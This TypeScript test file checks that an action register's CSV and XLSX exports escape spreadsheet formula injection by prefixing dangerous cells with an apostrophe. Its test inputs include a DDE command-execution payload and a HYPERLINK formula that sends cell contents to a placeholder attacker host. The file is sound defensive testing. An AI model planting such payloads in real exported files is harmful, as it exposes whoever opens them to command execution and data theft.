// An action point typed as a formula stays text in the register's CSV and XLSX: a cell
// beginning with = + - @, a tab or a carriage return is written after an apostrophe
// (OWASP), so a spreadsheet program shows it instead of running it. (Once, the register
// exported `=cmd|' /C calc'!A0` and `=HYPERLINK(…)` as typed.)
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { startTestServer, type TestServer } from '../helpers/server';
import { call, meetingBody, officer } from '../helpers/console';

const TYPED = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('the action register as a spreadsheet file', () => {
  let server: TestServer;
  let cookie: string;
  beforeAll(async () => {
    server = await startTestServer();
    cookie = (await officer(server, 'register@example.org')).cookie;
    const points = TYPED.map((text, i) => ({
      text: { th: text, lo: text, en: text },
      party: 'TH',
      agency: i === 1 ? text : 'Royal Thai Police',
      due: '2025-06-30',
      status: 'open',
    }));
    const made = await call(server, { cookie }, 'POST', '/api/console/meetings', meetingBody({ actionPoints: points }));
    expect(made.status).toBe(201);
  });
  afterAll(async () => {
    await server.stop();
    server.cleanup();
  });

  it('CSV: every cell that a spreadsheet would run starts with an apostrophe, and says what was typed after it', async () => {
    const res = await fetch(`${server.url}/api/console/register.csv?today=2025-07-01`, { headers: { cookie } });
    const table = Papa.parse<string[]>((await res.text()).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const texts = table.slice(1).map((row) => row[5]!);
    expect(texts.sort()).toEqual(TYPED.map((t) => `'${t}`).sort());
    expect(table.slice(1).map((row) => row[4])).toContain(`'${TYPED[1]}`);
    for (const row of table) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: the same cells are text beginning with an apostrophe, never formulas', async () => {
    const res = await fetch(`${server.url}/api/console/register.xlsx?today=2025-07-01`, { headers: { cookie } });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.length).toBeGreaterThan(TYPED.length * 2);
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
    }
    const register = book.getWorksheet('Action register')!;
    const texts: string[] = [];
    register.eachRow((row, n) => n > 1 && texts.push(String(row.getCell(6).value)));
    // (XML keeps a carriage return inside text as a line feed.)
    expect(texts.sort()).toEqual(TYPED.map((t) => `'${t}`.replace(/\r/g, '\n')).sort());
  });
});
